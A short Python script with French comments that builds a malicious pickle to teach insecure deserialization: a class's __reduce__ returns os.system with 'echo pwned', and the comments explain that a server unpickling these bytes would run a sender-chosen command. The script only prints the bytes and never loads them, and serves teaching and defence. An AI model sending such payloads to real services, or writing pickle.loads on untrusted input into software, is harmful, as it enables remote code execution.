# Un pickle piégé, pour comprendre. Ce script FABRIQUE les octets et les
# affiche ; il ne les relit jamais avec pickle.loads : c'est tout le propos.
import os
import pickle


class Piege:
    """Un objet qui dit à pickle : « pour me recréer, appelle os.system »."""

    def __reduce__(self):
        return (os.system, ("echo pwned",))


octets = pickle.dumps(Piege(), protocol=0)
print(octets)

# Sur le serveur du rapport, ces octets arriveraient par le réseau, et
#     pickle.loads(octets)
# exécuterait os.system("echo pwned") : une commande choisie par l'envoyeur.
